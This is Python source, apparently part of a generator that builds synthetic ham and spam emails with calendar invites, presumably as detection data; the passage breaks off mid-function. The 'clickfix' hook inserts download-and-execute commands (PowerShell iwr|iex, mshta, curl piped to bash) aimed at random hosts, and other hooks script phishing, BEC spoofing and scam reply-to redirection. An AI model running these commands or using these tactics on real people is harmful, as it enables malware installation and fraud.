"""Turns (category spec, variant, client) into a finished RFC 5322 message."""
import datetime as dt

from . import core as C
from . import clients as K
from . import pools as P
from . import build as B
from .model import COMPAT, fill, person, rand_domain, lookalike, spam_url, hidden_placement, strip_url_lines, slug

# ----------------------------------------------------------------------------
AIRLINES = {"en": ("Northwind Airways", "northwind-air.example", "NW"), "ja": ("さくら航空", "sakura-air.example", "SK"),
            "es": ("Iberavia", "iberavia.example", "IV"), "hi": ("Vayu Airlines", "vayuair.example", "VY"),
            "de": ("Condoria", "condoria.example", "CD")}
RAIL = {"en": ("Coastline Rail", "coastlinerail.example"), "de": ("Rheinland Bahn", "rheinlandbahn.example"),
        "zh": ("华铁出行", "huatie-travel.example")}
CITYPAIRS = {"en": [("London Heathrow", "Boston Logan"), ("New York JFK", "Chicago O'Hare"), ("Leeds", "London King's Cross"),
                    ("Denver", "Seattle"), ("Manchester", "Edinburgh")],
             "de": [("Köln Hbf", "Berlin Hbf"), ("Hamburg Hbf", "München Hbf"), ("Frankfurt (Main) Hbf", "Leipzig Hbf")],
             "ja": [("東京(羽田)", "福岡"), ("大阪(伊丹)", "札幌(新千歳)")], "es": [("Madrid", "Tenerife Norte"), ("Barcelona", "Sevilla")],
             "zh": [("上海虹桥", "北京南"), ("杭州东", "深圳北")], "hi": [("दिल्ली", "मुंबई"), ("बेंगलुरु", "कोलकाता")]}
HOTELS = {"en": ["The Harbourview Hotel", "Maple Court Inn", "Riverside Suites"], "it": ["Hotel Belvedere", "Albergo Le Logge"],
          "th": ["โรงแรมริมน้ำ", "บ้านสวนรีสอร์ท"], "pt": ["Hotel Mirador do Douro", "Casa das Laranjeiras"]}
RESTS = {"en": ["Ember & Oak", "The Salt Room", "Lotus Garden"], "fr": ["Le Petit Zinc", "Chez Margaux"],
         "el": ["Ταβέρνα Ο Γιάννης", "Θάλασσα"]}
CLINICS = {"en": ["Tidewater Dental", "Summit Family Practice", "Northside Lab Services"], "de": ["Praxis Dr. Hoffmann"],
           "fr": ["Cabinet médical des Tilleuls"], "nl": ["Tandartspraktijk De Linde"], "he": ["מרפאת הכרמל"],
           "ko": ["서울밝은안과"]}
DOCS = {"en": ["Patel", "Whitfield", "Okafor"], "de": ["Hoffmann", "Krüger"], "fr": ["Girard", "Moreau"],
        "nl": ["Visser"], "he": ["כהן", "לוי"], "ko": ["김", "박"]}
ROLES = {"en": ["Senior Data Engineer", "Product Designer", "Account Executive"], "hi": ["सॉफ़्टवेयर इंजीनियर"],
         "ar": ["محاسب أول"], "pt": ["Analista de Marketing"], "zh-tw": ["產品經理"], "tr": ["Yazılım Geliştirici"]}
BANKS = ["Citibank N.A.", "Barclays Bank UK", "Banco Santander", "HSBC UK", "Metro Bank", "Lloyds Bank", "Revolut Business"]
PRIZES = ["iPhone 16 Pro", "Dyson V15", "Samsung Galaxy S24", "KitchenAid mixer", "{cur}500 gift card"]
FILES = ["Q3_Statement.pdf", "Purchase_Order_4471.pdf", "Agreement_signed.pdf", "Payment_Advice.pdf", "Proposal_2024.docx",
         "Invoice_INV-20931.pdf", "Contract_Amendment.pdf", "Specs_rev2.xlsx"]
PROJ = ["Atlas", "Helios", "Bramble", "Orion", "Nimbus", "Kestrel"]
HAND_PRODIDS_SPAM = ["-//hacksw/handcal//NONSGML v1.0//EN", "-//ABC Corporation//NONSGML My Product//EN",
                     "-//Microsoft Corporation//Outlook 12.0 MIMEDIR//EN", "PRODID:-//Calendar//EN", "-//ICS//EN",
                     "-//Google Inc//Google Calendar 70.9054//EN", "-//Apple Inc.//Mac OS X 10.13.6//EN", "icalendar-ruby",
                     "-//PYVOBJECT//NONSGML Version 1//EN", "adamgibbons/ics", "-//Events Calendar//iCal4j 1.0//EN",
                     "-//ZContent.net//Zap Calendar 1.0//EN", "-//Company//Meeting//EN"]
HAND_PRODIDS_HAM = ["-//ZContent.net//Zap Calendar 1.0//EN", "adamgibbons/ics", "-//Events Calendar//iCal4j 1.0//EN",
                    "-//PYVOBJECT//NONSGML Version 1//EN", "icalendar-ruby", "-//SchoolSoft//Calendar 2.3//EN",
                    "-//Praxis-Software//Terminbuch 4//DE", "-//ical.marudot.com//iCal Event Maker",
                    "-//Microsoft Corporation//Outlook 12.0 MIMEDIR//EN", "-//Sabre//Sabre VObject 4.5.4//EN",
                    "-//hacksw/handcal//NONSGML v1.0//EN", "-//Ticketdesk//Helpdesk 7.2//EN"]
MAILERS = ["X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
           "X-Mailer: PHPMailer 5.2.22 (https://github.com/PHPMailer/PHPMailer)", None, None,
           "X-Mailer: Microsoft Outlook Express 6.00.2900.5512", "X-Mailer: Microsoft CDO for Windows 2000",
           "X-Mailer: nodemailer (6.9.7; +https://nodemailer.com/)", "User-Agent: Roundcube Webmail/1.6.5",
           "X-Mailer: Swift Mailer 6.3.0"]


# ----------------------------------------------------------------------------
def rcpt_domain(rng, lang, label):
    r = rng.random()
    if r < 0.55:
        return rng.choice(P.ORGS.get(lang, P.ORGS["en"]))[1], rng.choice(P.ORGS.get(lang, P.ORGS["en"]))[0]
    if r < 0.75:
        return rng.choice(P.ORGS["en"])[1], rng.choice(P.ORGS["en"])[0]
    if r < 0.9:
        return rng.choice(P.EXTRA_RCPT_DOMAINS), ""
    f, full, local = person(rng, lang)
    fam = slug(full.split(" ")[-1]) or "home"
    return rng.choice(["%s-family.example", "%s.name", "mail.%s.example", "%s-home.example"]) % (fam or "home"), ""


def freemail_for(rng, client, lang, sub=None):
    if client == "google":
        return "gmail.com"
    if client == "outlook":
        return rng.choice({"es": ["hotmail.es", "outlook.com"], "sv": ["hotmail.se", "outlook.com"],
                           "th": ["hotmail.co.th", "outlook.com"]}.get(lang, ["outlook.com", "hotmail.com"]))
    if client == "yahoo":
        return {"ja": "yahoo.co.jp", "zh-tw": "yahoo.com.tw", "el": "yahoo.gr", "es": "yahoo.es"}.get(
            lang, "yahoo.com")
    if client == "apple" and sub == "icloud":
        return rng.choice(["icloud.com", "icloud.com", "me.com"])
    opts = [d for d in P.FREEMAIL.get(lang, P.FREEMAIL["en"])]
    return rng.choice(opts)


def make_sender(rng, client, kind, lang, m):
    f, full, local = person(rng, lang)
    org = ""
    if kind == "free":
        dom = freemail_for(rng, client, lang, m.get("sub"))
        if rng.random() < 0.4:
            local += str(rng.randint(1, 99) if rng.random() < 0.5 else rng.randint(1960, 2005))
    elif kind in ("org", "compromised"):
        pool = P.ORGS.get(lang, P.ORGS["en"]) if rng.random() < 0.8 else P.ORGS["en"]
        cands = [x for x in pool if x[1] != m["rcpt"][1].split("@")[1]] or pool
        org, dom = rng.choice(cands)
    elif kind == "new":
        org = ""
        if rng.random() < 0.5:
            dom = rand_domain(rng)
        else:
            org, od = rng.choice(P.ORGS["en"] + P.ORGS.get(lang, []))
            dom = lookalike(rng, od)
    elif kind == "spoof":
        dom = m["rcpt"][1].split("@")[1] if rng.random() < 0.5 else lookalike(rng, rng.choice(P.ORGS["en"])[1])
    else:  # vps
        dom = rand_domain(rng)
    return dict(name=full, first=f, addr="%s@%s" % (local, dom), org=org, local=local)


# ----------------------------------------------------------------------------
def fmt_amount(rng, lang, lo=20, hi=900, dec=True):
    v = rng.randint(lo, hi)
    if lang in ("ja", "ko"):
        v *= 100
    if dec and lang not in ("ja", "ko", "zh", "zh-tw", "th", "hi"):
        cents = rng.choice([0, 0, 99, 50, 45, 95, 20])
        sep = "." if lang in ("en", "zh", "he", "th", "hi", "ar") else ","
        return "%d%s%02d" % (v, sep, cents)
    return "{:,}".format(v)


def phone(rng, lang):
    pat = rng.choice(P.PHONE.get(lang, P.PHONE["en"]))
    return pat.format("%03d" % rng.randint(100, 999), "%04d" % rng.randint(0, 9999))


def make_ctx(rng, m, lang, sender, start):
    rf = m["rcpt_first"]
    brand = ""
    cur = P.CUR[lang] if lang != "en" else rng.choice(["$", "$", "£", "€"])
    ctx = dict(first=rf, rname=m["rcpt"][0], email=m["rcpt"][1], rorg=m.get("rorg") or "your team",
               sname=sender["name"], sfirst=sender["first"], org=sender.get("org") or "",
               phone=phone(rng, lang), amount=fmt_amount(rng, lang), amount2=str(rng.randint(120, 190)),
               code=K.alnum(rng, 6, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"), brand=brand,
               n=str(rng.choice([70, 75, 80, 85, 90, 500, 1200, 2450, 3, 4, 6])),
               city=rng.choice(P.CITY.get(lang, P.CITY["en"])), ref="%s-%d" % (rng.choice(["INV", "CS", "PO", "RFQ", "TK", "A"]),
                                                                                 rng.randint(10000, 999999)),
               wa="+%d %d %d %04d" % (rng.choice([1, 44, 62, 63, 234, 91, 852]), rng.randint(200, 999),
                                      rng.randint(100, 999), rng.randint(0, 9999)),
               tg="@" + rng.choice(["hr_", "mentor_", "support_", "anna_", "vip_"]) + K.alnum(rng, 6),
               line="@" + K.alnum(rng, 7), btc="bc1q" + K.alnum(rng, 38, "acdefghjklmnpqrstuvwxyz023456789"),
               iban=rng.choice(["GB%02d MTBK %04d %04d %04d %02d", "DE%02d 1007 %04d %04d %04d %02d",
                                "LT%02d 3250 %04d %04d %04d %02d", "ES%02d 2100 %04d %04d %04d %02d"]) % (
                   rng.randint(10, 99), rng.randint(1000, 9999), rng.randint(1000, 9999), rng.randint(1000, 9999),
                   rng.randint(10, 99)),
               bic=rng.choice(["REVOLT21", "MTBKGB22", "CMCIFRPP", "BSCHESMM"]), bank=rng.choice(BANKS),
               file=rng.choice(FILES), cur=cur, pm="%s%d@%s" % (rng.choice(["barr.", "dr.", "mr.", "mrs.", "office."]),
                                                               rng.randint(1, 999),
                                                               rng.choice(["gmail.com", "outlook.com", "yahoo.com",
                                                                           "proton.me", "aol.com"])),
               big=rng.choice(["8,500,000", "12,750,000", "4,200,000", "27,500,000"]), q=str(rng.randint(1, 4)),
               y=str(start.year), pw=K.alnum(rng, 8, "abcdefghijkmnpqrstuvwxyz0123456789"),
               last4=str(rng.randint(1000, 9999)), afcity=rng.choice(["Lagos", "Accra", "Abidjan", "Ouagadougou", "Lomé"]),
               proj=rng.choice(PROJ), brandv=rng.choice(["Cloudreach", "DataForge", "Nimbly", "Stackwell", "Brightline"]),
               rphone=phone(rng, lang), issue=rng.choice(["billing question", "login issue", "router offline", "invoice copy",
                                                         "licence transfer"]),
               addr=rng.choice(["14 Elm Street", "Flat 3, 22 Carlton Road", "7 Bayview Ave"]),
               venue=rng.choice(["Hollins Barn", "St Mary's Church, Abbotsford", "The Old Mill"]),
               field=rng.choice(["Riverside Park pitch 2", "the school field", "Greenway Rec Center"]))
    ctx["prize"] = rng.choice(PRIZES).format(cur=cur)
    ctx["date"] = K.I.when(lang, start, None, allday=True) if hasattr(K, "I") else start.strftime("%Y-%m-%d")
    return ctx


# ----------------------------------------------------------------------------
def uid_for(rng, client, m):
    dom = m["sender"]["addr"].split("@")[1]
    if client == "google":
        return K.alnum(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789") + "@google.com"
    if client == "outlook":
        return ("040000008200E00074C5B7101A82E00800000000%s01000000000000000010000000%s" % (
            K.hexs(rng, 16, True), K.hexs(rng, 32, True)))
    if client == "apple":
        return K.uuid(rng, True)
    if client in ("thunderbird", "zimbra"):
        return K.uuid(rng)
    if client == "nextcloud":
        return K.uuid(rng, rng.random() < 0.5)
    if client == "sogo":
        return "%s-%s-%s-%s" % (K.hexs(rng, 4, True), K.hexs(rng, 8, True), K.hexs(rng, 1), K.hexs(rng, 8, True))
    if client == "yahoo":
        return K.hexs(rng, 32) + "@yahoo.com"
    if client == "zoom":
        return "ZOOM%d" % rng.randint(10 ** 9, 10 ** 11)
    if client == "booking":
        return "%s-%d@%s" % (K.alnum(rng, 8, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"), rng.randint(1, 9), dom)
    return rng.choice(["%s@%s" % (K.hexs(rng, 13), dom), K.hexs(rng, 32), "%d-%d@%s" % (
        int(m["sent"].timestamp()), rng.randint(100, 999), dom), K.uuid(rng), "uid%d@%s" % (rng.randint(1, 999), dom)])


def meet_link(rng):
    a = "abcdefghijklmnopqrstuvwxyz"
    return "https://meet.google.com/%s-%s-%s" % (K.alnum(rng, 3, a), K.alnum(rng, 4, a), K.alnum(rng, 3, a))


def zoom_link(rng, vanity=None):
    return "https://%szoom.us/j/%d?pwd=%s" % (vanity or rng.choice(["us02web.", "us06web.", "us04web.", ""]),
                                               rng.randint(8 * 10 ** 9, 9 * 10 ** 10 - 1),
                                               K.alnum(rng, 32, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"))


def teams_link(rng):
    return ("https://teams.microsoft.com/l/meetup-join/19%%3ameeting_%s%%40thread.v2/0?context=%%7b%%22Tid%%22%%3a%%22%s"
            "%%22%%2c%%22Oid%%22%%3a%%22%s%%22%%7d" % (K.alnum(rng, 48, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"),
                                                   K.uuid(rng), K.uuid(rng)))


def doc_link(rng, m):
    dom = m["sender"]["addr"].split("@")[1]
    ten = slug(dom.split(".")[0])
    return rng.choice([
        "https://docs.google.com/document/d/1%s/edit?usp=sharing" % K.alnum(rng, 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"),
        "https://drive.google.com/drive/folders/1%s?usp=sharing" % K.alnum(rng, 32, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"),
        "https://%s.sharepoint.com/:w:/s/%s/E%s?e=%s" % (ten, rng.choice(["Finance", "Projects", "Team", "Legal"]),
                                                       K.alnum(rng, 45, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"),
                                                       K.alnum(rng, 6)),
        "https://cloud.%s/s/%s" % (dom, K.alnum(rng, 15, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")),
        "https://www.figma.com/file/%s/%s-v3" % (K.alnum(rng, 22), rng.choice(PROJ))])


# ----------------------------------------------------------------------------
def attendee(name, addr, ps="NEEDS-ACTION", role="REQ-PARTICIPANT", rsvp="TRUE"):
    return dict(name=name, addr=addr, partstat=ps, role=role, rsvp=rsvp)


def random_people(rng, n, lang=None, domain=None):
    out = []
    for i in range(n):
        lg = lang or rng.choice(P.LANGS)
        f, full, local = person(rng, lg)
        dom = domain or rng.choice([d for x in P.ORGS.values() for _, d in x] + P.EXTRA_RCPT_DOMAINS +
                                   ["gmail.com", "yahoo.com", "hotmail.com", "outlook.com", "icloud.com"])
        out.append(attendee(full if rng.random() < 0.5 else "", "%s%s@%s" % (local, rng.choice(["", str(i), str(rng.randint(1, 99))]), dom)))
    return out


# ----------------------------------------------------------------------------
# hooks
def h_generic_spam(m, ev, ctx, rng, o):
    if rng.random() < 0.1:
        # stale campaign: event already in the past when the mail arrives
        ev["start"] = ev["start"] - dt.timedelta(days=rng.randint(25, 40))
        ev["end"] = ev["start"] + dt.timedelta(hours=1)
    if rng.random() < 0.3:
        ev["attendees"] += random_people(rng, rng.randint(3, 25), domain=m["rcpt"][1].split("@")[1] if rng.random() < .5 else None)


def h_retail(m, ev, ctx, rng, o):
    h_generic_spam(m, ev, ctx, rng, o)
    if rng.random() < 0.3:
        ev["allday"] = True
    if rng.random() < 0.3:
        ev["alarms"] = [dict(trigger="-PT%dM" % t, desc=ev["summary"]) for t in (0, 60, 1440)]


def h_crypto(m, ev, ctx, rng, o):
    if m["client"] == "zoom":
        ev["location"] = zoom_link(rng)
    h_generic_spam(m, ev, ctx, rng, o)


def h_dating(m, ev, ctx, rng, o):
    if rng.random() < 0.4:
        ev["start"] = ev["start"].replace(hour=rng.choice([20, 21, 22, 23]))
        ev["end"] = ev["start"] + dt.timedelta(hours=1)


def h_fee(m, ev, ctx, rng, o):
    if m["client"] == "booking":
        m["method"] = rng.choice(["PUBLISH", "REQUEST"])
        m["booking"] = dict(prodid=rng.choice(["-//Parcel Services//Delivery Scheduler 2.1//EN", "-//Tolling//Notice//EN",
                                               "-//Redelivery//Booking//EN"]),
                            rows=[("Tracking / Ref", ctx["ref"]), ("Amount due", ctx["cur"] + ctx["amount"])],
                            color=rng.choice(["#4d148c", "#ffcc00", "#d40511", "#333366"]),
                            footer="This is an automated message. Please do not reply.", filename="delivery.ics")
        ev["attendees"] = [] if rng.random() < 0.5 else ev["attendees"]
    if rng.random() < 0.3:
        ev["allday"] = True


def h_phish(m, ev, ctx, rng, o):
    b = o.get("brand") or ctx["brand"]
    nm = b + rng.choice(["", " Security", " Notifications", " Team", " Service"])
    if m["kind"] in ("new", "vps", "spoof") and rng.random() < 0.8:
        m["sender"]["name"] = nm
        dom = "%s-%s.%s" % (slug(b).replace("-", "")[:12], rng.choice(["secure", "notice", "docs", "auth", "account", "support"]),
                            rng.choice(["com", "net", "online", "app", "info"]))
        m["sender"]["addr"] = "%s@%s" % (rng.choice(["no-reply", "notification", "security", "admin", "info"]), dom)
    if m["client"] == "booking":
        m["booking"] = dict(prodid="-//%s//Notifications//EN" % b, color="#0078d4", rows=[("Account", ctx["email"])],
                            filename="secure-message.ics", footer="© %s" % b)


def h_callback(m, ev, ctx, rng, o):
    r = rng.random()
    if r < 0.3:
        ev["location"] = ctx["phone"]
    elif r < 0.45:
        ev["summary"] = ev["summary"] + " – " + ctx["phone"]
    if m["client"] == "booking":
        m["booking"] = dict(prodid="-//Billing//Invoice Reminder//EN", rows=[("Invoice", ctx["ref"]), ("Amount", ctx["cur"] + ctx["amount"]),
                                                                           ("Helpline", ctx["phone"])], color="#ffc220",
                            filename="invoice.ics")
        m["method"] = "PUBLISH"
    if rng.random() < 0.3:
        m["attachments"] = [("Invoice_%s.pdf" % ctx["ref"], "application/pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")]


def h_update(m, ev, ctx, rng, o):
    if o.get("clickfix"):
        host = rand_domain(rng)
        ctx_cmd = rng.choice(['powershell -w h -nop -c "iwr https://%s/a.ps1 -UseBasicParsing|iex"' % host,
                              'mshta https://%s/verify.hta' % host,
                              'cmd /c "curl -s https://%s/check.bat -o %%TEMP%%\\c.bat && %%TEMP%%\\c.bat"' % host])
        mac = 'curl -fsSL https://%s/install.sh | bash' % host
        ev["description"] = ev["description"].replace("{cmd}", ctx_cmd).replace("{cmdmac}", mac)
    if m["client"] in ("outlook",) and rng.random() < 0.5:
        ev["teams"] = teams_link(rng)
    if rng.random() < 0.4:
        ev["attendees"] += random_people(rng, rng.randint(1, 4), domain=m["rcpt"][1].split("@")[1])


def h_bec(m, ev, ctx, rng, o):
    # business e-mail compromise: short text, reply-to to attacker, no link
    rd = m["rcpt"][1].split("@")[1]
    if o.get("exec"):
        f, full, local = person(rng, m["lang"])
        m["sender"]["name"] = full
        m["sender"]["first"] = f
        if m["kind"] == "new":
            m["sender"]["addr"] = "%s@%s" % (local, lookalike(rng, rd))
        elif m["kind"] == "spoof":
            m["sender"]["addr"] = "%s@%s" % (local, rd)
        elif m["kind"] == "free":
            m["sender"]["addr"] = "%s.office%d@%s" % (local, rng.randint(1, 99), m["sender"]["addr"].split("@")[1])
        ev["description"] = ev["description"].replace(ctx["sname"], full)
        if rng.random() < 0.6:
            m["reply_to"] = (full, "%s.%s@%s" % (local, rng.choice(["ceo", "exec", "private", "pa"]),
                                                 rng.choice(["gmail.com", "outlook.com", "proton.me", "mail.com"])))
    old_org = ev.get("organizer")
    if old_org and old_org[1] != m["sender"]["addr"]:
        od = old_org[1].split("@")[1]
        ev["uid"] = ev["uid"].replace(od, m["sender"]["addr"].split("@")[1])
        ev["attendees"] = [a for a in ev["attendees"] if a["addr"] != old_org[1]]
    ev["organizer"] = (m["sender"]["name"], m["sender"]["addr"])
    ev["attendees"] = [a for a in ev["attendees"] if a["addr"] != m["sender"]["addr"]]
    if rng.random() < 0.5:
        ev["duration_short"] = True
        ev["end"] = ev["start"] + dt.timedelta(minutes=15)
    ev["location"] = rng.choice([None, None, "Call", "Office", ""])


def h_advance(m, ev, ctx, rng, o):
    m["reply_to"] = (m["sender"]["name"], ctx["pm"])
    if rng.random() < 0.5:
        ev["attendees"] += random_people(rng, rng.randint(5, 40))


def h_job(m, ev, ctx, rng, o):
    if m["client"] == "zoom":
        ev["location"] = zoom_link(rng)
    if rng.random() < 0.4:
        ev["attendees"] += random_people(rng, rng.randint(5, 60))


def h_docshare(m, ev, ctx, rng, o):
    if m["client"] == "outlook" and rng.random() < 0.4:
        ev["teams"] = teams_link(rng)
    if rng.random() < 0.5:
        ev["attendees"] += random_people(rng, rng.randint(1, 12), domain=m["rcpt"][1].split("@")[1])


def h_nag(m, ev, ctx, rng, o):
    r = rng.random()
    if m["render_client"] in ("google", "outlook", "yahoo", "zoom"):
        kind = rng.choice(["daily", "far", "yearlong"])
    else:
        kind = rng.choice(["daily", "minutely", "alarms", "far", "yearlong", "combo"])
    if kind in ("daily", "combo"):
        ev["rrule"] = rng.choice(["FREQ=DAILY", "FREQ=DAILY;INTERVAL=1", "FREQ=HOURLY;INTERVAL=6", "FREQ=DAILY;COUNT=3650"])
    if kind == "minutely":
        ev["rrule"] = rng.choice(["FREQ=MINUTELY;INTERVAL=30", "FREQ=HOURLY"])
    if kind in ("alarms", "combo"):
        n = rng.randint(8, 30)
        ev["alarms"] = [dict(trigger="-PT%dM" % (i * rng.choice([1, 5, 10])), desc=ev["summary"]) for i in range(n)]
        if rng.random() < 0.4:
            ev["alarms"].append(dict(trigger="-PT0M", action="AUDIO", attach="https://%s/alert.mp3" % rand_domain(rng),
                                     repeat=99, duration="PT1M"))
    if kind == "far":
        yr = rng.choice([2099, 2199, 2050, 3000, 2038])
        ev["start"] = ev["start"].replace(year=yr)
        ev["end"] = ev["start"] + dt.timedelta(hours=1)
        ev["rrule"] = "FREQ=YEARLY"
    if kind == "yearlong":
        ev["allday"] = True
        ev["start"] = ev["start"].replace(hour=0, minute=0)
        ev["end"] = ev["start"] + dt.timedelta(days=rng.choice([365, 366, 730, 3650]))
    if not ev.get("alarms"):
        ev["alarms"] = [dict(trigger="-PT0M", desc=ev["summary"])]
    m["nag"] = kind


def h_mass(m, ev, ctx, rng, o):
    n = rng.randint(150, 520)
    ppl = random_people(rng, n)
    pos = rng.randint(0, n)
    ev["attendees"] = ev["attendees"][:1] + ppl[:pos] + [a for a in ev["attendees"][1:]] + ppl[pos:]
    if m["client"] in ("outlook", "handrolled", "thunderbird"):
        m["to"] = [(a["name"], a["addr"]) for a in ev["attendees"] if a["addr"] != m["sender"]["addr"]][:300]
        if m["rcpt"] not in m["to"]:
            m["to"].append(m["rcpt"])


# ---- ham hooks
def h_travel(m, ev, ctx, rng, o):
    lang = m["lang"]
    kind = o.get("kind", "air")
    pair = rng.choice(CITYPAIRS.get(lang, CITYPAIRS["en"]))
    if kind == "air":
        nm, dom, iata = AIRLINES.get(lang, AIRLINES["en"])
        fl = "%s %d" % (iata, rng.randint(100, 2999))
    elif kind == "rail":
        nm, dom = RAIL.get(lang, RAIL["en"])
        fl = {"zh": "G%d" % rng.randint(10, 999), "de": "%d" % rng.randint(500, 1999)}.get(lang, "%d" % rng.randint(100, 999))
    else:
        nm, dom = m["sender"]["org"] or "Travel desk", m["sender"]["addr"].split("@")[1]
        fl = ""
    ctx.update(src=pair[0], dst=pair[1], fl=fl, seat="%d%s" % (rng.randint(3, 38), rng.choice("ABCDEF")))
    ctx["url"] = "https://www.%s/%s?ref=%s" % (dom, rng.choice(["manage-booking", "checkin", "mybooking"]), ctx["code"])
    if kind != "agent":
        m["sender"].update(name=nm, org=nm, addr="%s@%s" % (rng.choice(["noreply", "booking", "confirmation", "no-reply"]),
                                                             rng.choice(["", "mail.", "info."]) + dom))
    m["method"] = "PUBLISH" if kind != "agent" else "REQUEST"
    m["booking"] = dict(prodid=rng.choice(["-//%s//Itinerary 2.4//EN" % (nm if nm.isascii() else dom.split(".")[0]),
                                           "-//Amadeus//e-Travel//EN", "-//Sabre Inc//Trip Calendar//EN"]),
                        rows=[("Ref", ctx["code"])], color=rng.choice(["#00205b", "#c8102e", "#006a4e", "#f0ab00"]),
                        footer="%s · %s" % (nm, ctx["phone"]), filename="itinerary.ics")
    m["pending_text_ctx"] = True
    m["attendee_mode"] = "none" if kind != "agent" else "default"


def h_travel_post(m, ev, ctx, rng, o):
    ev["duration"] = None
    ev["end"] = ev["start"] + dt.timedelta(minutes=rng.choice([75, 95, 130, 185, 260, 420]))
    ev["timemode"] = rng.choice(["utc", "tzid"]) if m["client"] in ("booking", "handrolled") else None
    if o.get("kind") == "air" and rng.random() < 0.6:
        ret = dict(ev)
        ret["uid"] = ev["uid"].replace("@", "-R@") if "@" in ev["uid"] else ev["uid"] + "R"
        ret["start"] = ev["start"] + dt.timedelta(days=rng.randint(2, 12), hours=rng.randint(-3, 3))
        ret["end"] = ret["start"] + (ev["end"] - ev["start"])
        ret["summary"] = ev["summary"].replace(ctx["src"], "§").replace(ctx["dst"], ctx["src"]).replace("§", ctx["dst"])
        m["events"].append(ret)
    if m["client"] == "booking":
        ev["alarms"] = [dict(trigger="-PT3H", desc="Flight reminder")] if rng.random() < 0.5 else []


def h_hotel(m, ev, ctx, rng, o):
    lang = m["lang"]
    kind = o.get("kind")
    ctx["hotel"] = rng.choice(HOTELS.get(lang, HOTELS["en"]))
    ctx["rest"] = rng.choice(RESTS.get(lang, RESTS["en"]))
    ctx["n"] = str(rng.randint(2, 8))
    plat = rng.random() < 0.5
    if kind == "hotel":
        nm = rng.choice(["Stayfinder", "RoomNest"]) if plat else ctx["hotel"]
    else:
        nm = rng.choice(["TableNow", "Resto Booker"]) if plat else ctx["rest"]
    dom = slug(nm).replace("-", "") + ".example" if slug(nm) else "hotel-%d.example" % rng.randint(1, 99)
    m["sender"].update(name=nm, org=nm, addr="%s@%s" % (rng.choice(["noreply", "reservations", "info", "bookings"]), dom))
    ctx["url"] = "https://%s/r/%s" % (dom, ctx["code"])
    m["method"] = "PUBLISH" if rng.random() < 0.8 else "REQUEST"
    m["booking"] = dict(prodid=rng.choice(["-//%s//Reservations//EN" % slug(nm) or "hotel", "-//Hotelier Suite//iCal 2.1//EN",
                                           "-//TableNow//Reservation 1.0//EN"]), color="#2a5d84", rows=[("Ref", ctx["code"])],
                        filename="reservation.ics")
    m["attendee_mode"] = rng.choice(["none", "rcpt"])


def h_hotel_post(m, ev, ctx, rng, o):
    if o.get("kind") == "hotel":
        ev["allday"] = True
        ev["start"] = ev["start"].replace(hour=0, minute=0)
        ev["end"] = ev["start"] + dt.timedelta(days=rng.randint(1, 5))
        ev["transp"] = "TRANSPARENT"
    else:
        ev["start"] = ev["start"].replace(hour=rng.choice([19, 20, 20, 21]), minute=rng.choice([0, 15, 30]))
        ev["end"] = ev["start"] + dt.timedelta(hours=2)


def h_medical(m, ev, ctx, rng, o):
    lang = m["lang"]
    ctx["clinic"] = rng.choice(CLINICS.get(lang, CLINICS["en"]))
    ctx["doc"] = rng.choice(DOCS.get(lang, DOCS["en"]))
    ctx["spec"] = {"fr": "Dermatologie"}.get(lang, "")
    dom = (slug(ctx["clinic"]) or "praxis-%d" % rng.randint(1, 99)).replace("-", "")[:20] + ".example"
    if m["client"] in ("booking", "handrolled"):
        plat = rng.choice(["MediSlot", "Praxistermin", "DocAgenda"])
        m["sender"].update(name=ctx["clinic"] if rng.random() < 0.5 else plat, org=plat,
                           addr="%s@%s" % (rng.choice(["noreply", "termine", "appointments"]), slug(plat) + ".example"))
    ctx["url"] = "https://%s/a/%s" % (m["sender"]["addr"].split("@")[1], K.alnum(rng, 10))
    m["method"] = rng.choice(["PUBLISH", "REQUEST"]) if m["client"] in ("booking", "handrolled") else "REQUEST"
    m["booking"] = dict(prodid="-//%s//Appointments//EN" % (m["sender"]["org"] or "Clinic"), color="#0a7d6f",
                        rows=[], filename="appointment.ics")
    m["attendee_mode"] = rng.choice(["rcpt", "none"]) if m["client"] in ("booking", "handrolled") else "default"


def h_webinar(m, ev, ctx, rng, o):
    ctx["zoomurl"] = zoom_link(rng)
    dom = m["sender"]["addr"].split("@")[1]
    ctx["url"] = "https://events.%s/%s" % (dom, rng.choice(["agenda", "summit", "live/" + K.alnum(rng, 6)]))
    if m["client"] == "booking":
        m["booking"] = dict(prodid=rng.choice(["-//Eventbright//Event Calendar//EN", "-//Cvent//Attendee Hub//EN",
                                               "-//Hopin-like//Events//EN"]), color="#d1410c", rows=[("Ticket", ctx["code"])],
                            filename="event.ics", headers=["List-Unsubscribe: <https://%s/unsub/%s>" % (dom, K.alnum(rng, 12)),
                                                           "Precedence: bulk"])
        m["method"] = "PUBLISH"
        m["attendee_mode"] = "rcpt"
    if m["client"] == "zoom":
        m["method"] = rng.choice(["PUBLISH", "REQUEST"])


def h_webinar_post(m, ev, ctx, rng, o):
    if m["client"] == "zoom":
        ev["location"] = ctx["zoomurl"]
    elif m["client"] == "outlook":
        ev["teams"] = teams_link(rng)
        ev["location"] = "Microsoft Teams Meeting"
    elif m["client"] == "google" and rng.random() < 0.6:
        ev["meet"] = meet_link(rng)
    if m["client"] in ("outlook", "google", "thunderbird", "handrolled") and rng.random() < 0.6:
        ev["attendees"] += random_people(rng, rng.randint(120, 450))
        if m["client"] in ("outlook", "thunderbird"):
            m["to"] = [(a["name"], a["addr"]) for a in ev["attendees"][1:]]
    ev["end"] = ev["start"] + dt.timedelta(minutes=rng.choice([45, 60, 90, 480]))


def h_community(m, ev, ctx, rng, o):
    ctx["url"] = rng.choice(["https://docs.google.com/spreadsheets/d/1%s/edit" % K.alnum(rng, 40),
